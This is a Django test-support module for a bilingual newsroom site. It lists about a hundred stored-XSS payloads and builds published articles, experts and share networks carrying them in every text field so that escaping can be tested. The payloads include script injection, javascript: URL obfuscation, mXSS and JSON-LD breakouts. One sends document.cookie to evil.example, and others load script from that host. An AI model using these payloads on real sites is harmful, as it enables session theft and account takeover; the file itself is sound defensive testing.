"""Stored-XSS cases: the project's own compact set, and the shared corpus where present.

Each case is text a member of staff could type into any field (a headline, a caption, an
expert's biography, a share template). The XSS suites (``test_xss.py`` without a browser,
``test_xss_browser.py`` in Chromium) put every case into every field and check every
place the field is shown. The set is small enough to run everywhere, and chosen so that
each way of getting script into a page that we know of is tried at least once: each
context we render into (element text, ``<title>``, quoted attributes, JSON-LD, sanitized
rich text, feeds, redirects) has cases aimed at it. The public corpus (7,247 payloads in
``../shared/security/xss-payloads.jsonl``) runs on top of it where that file exists.
"""

import io
import json
import re
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path

from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.utils import timezone
from PIL import Image

from articles.arabic import without_bidi_controls
from articles.models import (
    Article,
    AuthorProfile,
    Correction,
    Expert,
    Quote,
    Section,
    ShareNetwork,
    Tag,
)

CORPUS = settings.BASE_DIR.parent / "shared" / "security" / "xss-payloads.jsonl"


@dataclass(frozen=True)
class Case:
    id: str
    payload: str

    def __str__(self):
        return self.id


CASES = [
    # A harmless value: the baseline every other page is compared with.
    Case("harmless", "Plain words, كلمات عادية"),
    # --- Script elements and event handlers: the first things an attacker tries. ---
    Case("script", "<script>alert(1)</script>"),
    Case("script-upper", "<SCRIPT>alert(document.domain)</SCRIPT>"),
    Case("script-src", "<script src=https://evil.example/x.js></script>"),
    # A sanitizer that removes "<script>" once leaves a new one behind.
    Case("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Case("img-onerror", "<img src=x onerror=alert(1)>"),
    # Slashes instead of spaces: no whitespace is needed between attributes.
    Case("img-slashes", "<img/src/onerror=alert(1)>"),
    Case("svg-onload", "<svg onload=alert(1)>"),
    Case("svg-slash-onload", "<svg/onload=print()>"),
    Case("body-onload", "<body onload=alert(1)>"),
    Case("details-ontoggle", "<details open ontoggle=alert(1)>"),
    Case("autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    Case("hover", '<a href="#" onmouseover="alert(1)">hover me</a>'),
    Case("video-source", "<video><source onerror=alert(1)></video>"),
    Case(
        "animation",
        '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>',
    ),
    Case("sentinel", "<img src=x onerror=window.__xss=1>"),
    Case("eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>"),
    Case(
        "fetch-steal", "<img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">"
    ),
    Case("location", "<img src=x onerror=location='https://evil.example/'>"),
    # --- URLs that run script: schemes hidden by case, entities, whitespace and controls. ---
    Case("href-javascript", '<a href="javascript:alert(1)">link</a>'),
    Case("href-mixed-case", '<a href="JaVaScRiPt:alert(1)">link</a>'),
    Case("href-tab-entity", '<a href="java&#x09;script:alert(1)">link</a>'),
    Case("href-tab", '<a href="java\tscript:alert(1)">link</a>'),
    Case("href-newline", '<a href="java\nscript:alert(1)">link</a>'),
    Case("href-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">link</a>'),
    Case("href-leading-controls", '<a href=" \x01 javascript:alert(1)">link</a>'),
    Case(
        "href-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>',
    ),
    Case(
        "href-padded-entities",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058alert(1)">link</a>',
    ),
    Case("href-colon-entity", '<a href="javascript&colon;alert(1)">link</a>'),
    Case("href-colon-no-semicolon", '<a href="javascript&#58alert(1)">link</a>'),
    Case("href-hex-mixed", '<a href="&#x6A;ava&#X73;cript&#x3a;alert(1)">link</a>'),
    Case("href-null-entity", '<a href="java&#0;script:alert(1)">link</a>'),
    Case("href-vbscript", '<a href="vbscript:msgbox(1)">link</a>'),
    Case(
        "href-data-html",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    ),
    Case("href-data-script", '<a href="data:text/html,<script>alert(1)</script>">link</a>'),
    # JavaScript escapes mean nothing to HTML, but code that decodes them would be caught.
    Case("href-js-escape", '<a href="\\u006Aavascript:alert(1)">link</a>'),
    Case("href-zero-width", '<a href="java\u200bscript:alert(1)">link</a>'),
    Case("javascript-text", "javascript:alert(1)"),
    Case("markdown-link", "[click](javascript:alert(1))"),
    Case("form-action", '<form action="javascript:alert(1)"><button>send</button></form>'),
    Case("formaction", "<button formaction=javascript:alert(1)>send</button>"),
    Case("iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
    Case("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    Case(
        "object-data", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
    ),
    Case("embed-src", '<embed src="javascript:alert(1)">'),
    Case("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    Case("base-href", '<base href="https://evil.example/">'),
    Case("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    Case("css-expression", '<p style="width: expression(alert(1))">x</p>'),
    Case("css-url-javascript", "<p style=\"background:url('javascript:alert(1)')\">x</p>"),
    Case("css-import", "<style>@import 'https://evil.example/x.css';</style>"),
    # --- Breaking out of a quoted attribute (alt, title, meta content, input value). ---
    Case("attr-double-quote", '"><script>alert(1)</script>'),
    Case("attr-single-quote", "'><script>alert(1)</script>"),
    Case("attr-handler", '" onmouseover="alert(1)'),
    Case("attr-handler-single", "' onfocus='alert(1)' autofocus='"),
    Case("attr-autofocus", '" autofocus onfocus=alert(1) x="'),
    Case("attr-backslash", '\\" onerror=alert(1) x=\\"'),
    Case("attr-backtick", "` onmouseover=alert(1) `"),
    Case("attr-entity-quote", "&quot; onerror=alert(1) x=&quot;"),
    # --- Breaking out of elements whose text is not markup: <title>, <textarea>, <style>. ---
    Case("title-breakout", "</title><script>alert(1)</script>"),
    Case("textarea-breakout", "</textarea><script>alert(1)</script>"),
    Case("style-breakout", "</style><script>alert(1)</script>"),
    Case("noscript-breakout", "</noscript><img src=x onerror=alert(1)>"),
    # --- Aimed at JSON-LD: close the script element, or make its end tag not count. ---
    Case("jsonld-close", "</script><script>alert(1)</script>"),
    Case("jsonld-close-spaced", "</SCRIPT ><script>alert(1)</script>"),
    # Inside a script, "<!--<script>" makes the next "</script>" not end the element.
    Case("jsonld-comment", "<!--<script>"),
    Case("jsonld-structure", '"}]}</script><script>alert(1)</script>'),
    Case("jsonld-key", '","@type":"Person","name":"spoofed'),
    Case("json-escapes", "\\u003c/script\\u003e\\x3cscript\\x3ealert(1)"),
    # U+2028 and U+2029 end a JavaScript string literal (not a JSON one).
    Case("line-separators", "a\u2028b\u2029c alert(1)"),
    # --- Comments, CDATA and processing instructions: how parsers disagree. ---
    Case("comment-unclosed", "<!--"),
    Case("comment-short", "<!--><img src=x onerror=alert(1)>-->"),
    Case("cdata", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    Case("cdata-end", "]]><script>alert(1)</script>"),
    Case("processing-instruction", "<? foo ><img src=x onerror=alert(1) ?>"),
    # --- mXSS: markup that means one thing to a sanitizer and another after reparsing. ---
    Case("mxss-svg-style", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    Case(
        "mxss-math-mglyph",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">',
    ),
    Case(
        "mxss-svg-p-style",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    ),
    Case(
        "mxss-form-math",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    Case(
        "mxss-textarea-path",
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) '
        'src=1>">',
    ),
    Case("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Case("mxss-template", "<template><img src=x onerror=alert(1)></template>"),
    Case("mxss-xmp", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    Case("mxss-noembed", '<noembed><img title="</noembed><img src onerror=alert(1)>">'),
    Case(
        "mxss-attribute",
        '<a href="https://example.org/" title="</a><img src onerror=alert(1)>">x</a>',
    ),
    Case(
        "svg-foreign-object", "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>"
    ),
    # Inside SVG, the text of a script is decoded: entities become code.
    Case("svg-script-entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    Case(
        "svg-xlink",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    ),
    Case(
        "svg-animate-href",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text x=20 y=20>click</text></a></svg>",
    ),
    Case("svg-set-handler", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'),
    Case("math-href", '<math href="javascript:alert(1)">click</math>'),
    # --- Text that is already escaped: it must stay text, never be decoded into markup. ---
    Case("escaped-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Case("double-escaped", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    Case("numeric-escaped", "&#60;img src=x onerror=alert(1)&#62;"),
    Case("percent-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    # NFKC (search folding, slugs) turns fullwidth brackets into real ones.
    Case("fullwidth", "＜script＞alert(1)＜/script＞"),
    # --- Templates and format strings: content is never a template. ---
    Case("django-template", "{{ 7|add:7 }}{% now 'Y' %}{% debug %}"),
    Case("angular-template", "{{constructor.constructor('alert(1)')()}}"),
    Case("js-template", "${alert(1)}#{alert(1)}"),
    Case("format-placeholders", "{url}{title}{text}{0}%(source)s%s"),
    # --- Right-to-left overrides and other bidi controls: spoofing by reordering. ---
    # U+202E reverses what follows: a link that reads "exe.png" is "gnp.exe".
    Case("bidi-rlo-link", '<a href="https://example.org/">\u202egnp.exe</a> then our text'),
    Case("bidi-rlo", "\u202etxet desrever"),
    Case("bidi-rle", "\u202bembedded"),
    Case("bidi-rli", "\u2067isolated"),
    Case("bidi-lro-arabic", "\u202dنص عربي"),
    # --- Pictures and posts inside the text (articles/media/body.py): only our own media
    # addresses, only known providers, and references that stay inside our embed path. ---
    Case(
        "body-image-foreign",
        '<figure data-body-image="1 onload=alert(1)"><picture><source srcset="https://evil.'
        'example/a.webp 480w"><img src="https://evil.example/a.png" srcset="/media/a.jpg 1w, '
        '//evil.example/b.png 2w" alt="x" onerror="alert(1)"></picture><figcaption>x</figcaption>'
        '</figure><img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
    ),
    Case(
        "embed-forged",
        '<figure data-embed="youtube" data-embed-id="../../admin/logout" data-embed-label="'
        '&lt;img src=x onerror=alert(1)&gt;"><a href="javascript:alert(1)">tap</a></figure>',
    ),
    # --- Arabic text around a payload: the newsroom's everyday language. ---
    Case("arabic-around", "خبر عاجل <img src=x onerror=alert(1)> من الرقة"),
]

# Words in the payload that search would find, to highlight around and inside it.
_WORD = re.compile(r"\w{2,}")


def search_words(payload: str) -> list[str]:
    """Return up to two words of ``payload`` that search indexes, to search with."""
    return _WORD.findall(payload)[:2]


def load_corpus(path: Path = CORPUS) -> list[Case]:
    """Return the shared corpus's payloads as cases, or none where the file is absent."""
    if not path.exists():
        return []
    cases = []
    with path.open(encoding="utf-8") as lines:
        for line in lines:
            if line.strip():
                record = json.loads(line)
                cases.append(Case(record["id"], record["payload"]))
    return cases


# --- Where staff write: every text field of every model, and what holds it. -------------


@dataclass(frozen=True)
class Field:
    model: str
    name: str
    translated: bool = True

    def __str__(self):
        return f"{self.model}.{self.name}"


FIELDS = (
    Field("article", "title"),
    Field("article", "kicker"),
    Field("article", "summary"),
    Field("article", "body"),
    Field("article", "lead_image_caption"),
    Field("article", "lead_image_alt"),
    Field("article", "lead_image_credit"),
    Field("article", "source"),
    Field("article", "claim"),
    Field("article", "claim_author"),
    Field("section", "name"),
    Field("section", "description"),
    Field("tag", "name"),
    Field("expert", "name"),
    Field("expert", "honorific"),
    Field("expert", "role"),
    Field("expert", "affiliation"),
    Field("expert", "bio"),
    Field("author", "name"),
    Field("author", "short_bio"),
    Field("author", "contact", translated=False),
    Field("quote", "text"),
    Field("quote", "context"),
    Field("correction", "text"),
    Field("network", "name"),
    Field("network", "url_template", translated=False),
)
MODELS = {
    "article": Article,
    "section": Section,
    "tag": Tag,
    "expert": Expert,
    "author": AuthorProfile,
    "quote": Quote,
    "correction": Correction,
    "network": ShareNetwork,
}
LANGUAGES = ("ar", "en")
# Rich text is written into a body that already has a paragraph, as staff would: a body
# reduced to nothing by the sanitizer would take the English page away with it.
RICH_TEXT_LEAD = {"ar": "<p>فقرة أولى.</p>", "en": "<p>A first paragraph.</p>"}
# A share template is written by an administrator; the payload goes where a careless one
# could put text (the template as a whole is tried in test_xss.py).
SHARE_TEMPLATE = "https://share.example/?u={url}&t={title}&note="
SHARE_HOST = "share.example"
LEAD_IMAGE = "articles/xss/lead.jpg"
CLAIM_AUTHOR_URL = "https://claims.example/said"
LEAD_IMAGE_SIZE = (800, 450)


def max_length(field: Field, language: str) -> int | None:
    name = f"{field.name}_{language}" if field.translated else field.name
    return MODELS[field.model]._meta.get_field(name).max_length


def fits(field: Field, language: str, text: str) -> bool:
    """Say whether staff could type ``text`` into ``field``: no longer than it allows."""
    limit = max_length(field, language)
    return limit is None or len(text) <= limit


@dataclass
class Carrier:
    """Content holding one case in every field: Arabic fields one case, English another.

    ``texts`` maps (field, language) to what the field holds: the payload where it fits
    the field, else a plain stand-in (and ``carried`` does not list it).
    """

    number: int
    cases: dict[str, Case]
    texts: dict[tuple[Field, str], str] = field(default_factory=dict)
    carried: set[tuple[Field, str]] = field(default_factory=set)
    article: Article | None = None
    section: Section | None = None
    tag: Tag | None = None
    expert: Expert | None = None
    author: AuthorProfile | None = None
    quote: Quote | None = None
    correction: Correction | None = None
    network: ShareNetwork | None = None

    def text(self, model: str, name: str, language: str) -> str:
        """Return what readers of ``language`` see in a field: English falls back to Arabic;
        the reordering controls staff typed were dropped when it was saved."""
        f = next(f for f in FIELDS if f.model == model and f.name == name)
        if not f.translated:
            return without_bidi_controls(self.texts[f, "ar"])
        return without_bidi_controls(self.texts[f, language] or self.texts[f, "ar"])

    def full_name(self, language: str) -> str:
        honorific = self.text("expert", "honorific", language)
        name = self.text("expert", "name", language)
        return f"{honorific} {name}" if honorific else name


def _written(field: Field, language: str, payload: str, number: int) -> tuple[str, bool]:
    """Return what staff would have saved in ``field`` for ``payload``, and if it is it."""
    if field.name in {"body", "bio"}:
        return RICH_TEXT_LEAD[language] + payload, True
    if field.name == "url_template":
        text = SHARE_TEMPLATE + payload
        return (text, True) if fits(field, language, text) else (SHARE_TEMPLATE, False)
    if fits(field, language, payload):
        return payload, True
    required = {"article.title", "section.name", "tag.name", "expert.name", "quote.text"}
    required |= {"author.name"}
    required |= {"correction.text", "network.name", "article.source"}
    return (f"{field.name} {number}" if str(field) in required else ""), False


def plan_carrier(number: int, cases: dict[str, Case]) -> Carrier:
    carrier = Carrier(number=number, cases=cases)
    for f in FIELDS:
        for language in LANGUAGES if f.translated else ("ar",):
            text, carried = _written(f, language, cases[language].payload, number)
            carrier.texts[f, language] = text
            if carried:
                carrier.carried.add((f, language))
    return carrier


def _values(carrier: Carrier, model: str) -> dict[str, str]:
    values = {}
    for (f, language), text in carrier.texts.items():
        if f.model == model:
            values[f"{f.name}_{language}" if f.translated else f.name] = text
    return values


def build_carriers(
    pairs: list[dict[str, Case]], *, bulk: bool = False, per_section: int = 1
) -> list[Carrier]:
    """Create, published, one carrier per item of ``pairs`` ({"ar": case, "en": case}).

    Each carrier is a tag, an expert, an author and a share network of its own, and an article in
    them with a highlighted quote and a correction. Every ``per_section`` carriers share
    a section, written by the first of them (a newsroom has tens of sections, not
    thousands). ``bulk`` inserts many rows at once, as an import would: no revisions.
    """
    carriers = [plan_carrier(number, cases) for number, cases in enumerate(pairs)]
    now = timezone.now()
    for carrier in carriers:
        number = carrier.number
        if number % per_section:
            leader = carriers[number - number % per_section]
            carrier.section = leader.section
            for key in [key for key in carrier.texts if key[0].model == "section"]:
                carrier.texts[key] = leader.texts[key]
                carrier.carried.discard(key)
        else:
            carrier.section = Section(
                slug=f"xss-{number}", position=number, **_values(carrier, "section")
            )
        carrier.tag = Tag(slug=f"xss-{number}", **_values(carrier, "tag"))
        carrier.expert = Expert(slug=f"xss-{number}", **_values(carrier, "expert"))
        carrier.author = AuthorProfile(slug=f"xss-{number}", **_values(carrier, "author"))
        carrier.network = ShareNetwork(
            slug=f"xss-{number}", position=number, **_values(carrier, "network")
        )
    if bulk:
        for carrier in carriers:
            carrier.expert.prepare_for_save()
            carrier.author.prepare_for_save()
        for model in ("section", "tag", "expert", "author", "network"):
            rows = {id(getattr(c, model)): getattr(c, model) for c in carriers}
            MODELS[model].objects.bulk_create(list(rows.values()), batch_size=500)
    else:
        for carrier in carriers:
            for model in ("section", "tag", "expert", "author", "network"):
                if getattr(carrier, model).pk is None:
                    getattr(carrier, model).save()
    for carrier in carriers:
        carrier.article = Article(
            section=carrier.section,
            status=Article.Status.PUBLISHED,
            published_at=now - timedelta(minutes=carrier.number + 1),
            lead_image=LEAD_IMAGE,
            lead_image_width=LEAD_IMAGE_SIZE[0],
            lead_image_height=LEAD_IMAGE_SIZE[1],
            # A fact-check, so its claim and who made it show in the verdict box and
            # the ClaimReview too.
            piece_type=Article.PieceType.FACT_CHECK,
            claim_rating=Article.ClaimRating.MISLEADING,
            claim_author_url=CLAIM_AUTHOR_URL,
            **_values(carrier, "article"),
        )
    if bulk:
        for carrier in carriers:
            carrier.article.prepare_for_save()
        Article.objects.bulk_create([carrier.article for carrier in carriers], batch_size=500)
        Article.tags.through.objects.bulk_create(
            [
                Article.tags.through(article_id=carrier.article.pk, tag_id=carrier.tag.pk)
                for carrier in carriers
            ],
            batch_size=500,
        )
        Article.bylines.through.objects.bulk_create(
            [
                Article.bylines.through(
                    article_id=carrier.article.pk, authorprofile_id=carrier.author.pk
                )
                for carrier in carriers
            ],
            batch_size=500,
        )
    else:
        for carrier in carriers:
            carrier.article.save()
            carrier.article.tags.set([carrier.tag])
            carrier.article.bylines.set([carrier.author])
    for carrier in carriers:
        carrier.quote = Quote(
            article=carrier.article,
            expert=carrier.expert,
            highlighted=True,
            **_values(carrier, "quote"),
        )
        # The same words again, not highlighted: the quotes box shows only those.
        carrier.listed_quote = Quote(
            article=carrier.article,
            expert=carrier.expert,
            position=1,
            **_values(carrier, "quote"),
        )
        carrier.correction = Correction(article=carrier.article, **_values(carrier, "correction"))
    if bulk:
        Quote.objects.bulk_create(
            [quote for carrier in carriers for quote in (carrier.quote, carrier.listed_quote)],
            batch_size=500,
        )
        Correction.objects.bulk_create([carrier.correction for carrier in carriers], batch_size=500)
    else:
        for carrier in carriers:
            carrier.quote.save()
            carrier.listed_quote.save()
            carrier.correction.save()
    return carriers


def store_lead_image() -> None:
    """Store the picture every carrier article shows (its caption and alt text need one)."""
    if default_storage.exists(LEAD_IMAGE):
        return
    buffer = io.BytesIO()
    Image.new("RGB", LEAD_IMAGE_SIZE, (70, 110, 150)).save(buffer, "JPEG", quality=80)
    default_storage.save(LEAD_IMAGE, ContentFile(buffer.getvalue()))
